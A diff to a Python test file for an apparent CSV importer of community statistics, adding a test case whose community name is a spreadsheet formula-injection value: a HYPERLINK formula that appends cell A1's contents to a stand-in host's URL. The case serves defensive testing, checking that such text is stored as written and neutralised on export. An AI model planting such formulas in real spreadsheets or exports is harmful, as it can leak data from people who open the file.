@@ -643,6 +643,7 @@ def good_files() -> dict[str, GoodCase]:
     ]
     pct_rows = [zh, [*GOOD_OUTCOME[:9], 0.913]]
     harbour_c09 = ["C09", "海港社区", "Haigang", "社区", 2010, 900, 350, 21000.0, "P02"]
+    formula = '=HYPERLINK("http://x"&A1,"点我")'
     cases = {
         "gbk_chinese_headers": GoodCase(
             "三降四升成效指标.csv",
@@ -760,6 +761,14 @@ def good_files() -> dict[str, GoodCase]:
             [community_row(_with(NEW_COMMUNITY, 1, "海港社区")), community_row(harbour_c09)],
             [2, 3],
             warnings=("同名",),
+        ),
+        # text, whatever it looks like: kept as written (exports neutralise it)
+        "formula_name": GoodCase(
+            "communities.csv",
+            _communities([_with(NEW_COMMUNITY, 1, formula)]),
+            "communities",
+            [community_row(_with(NEW_COMMUNITY, 1, formula))],
+            [2],
         ),
         # 2021 typed for 2011: accepted once the clerk accepts the warning
         "typo_quarter": GoodCase(
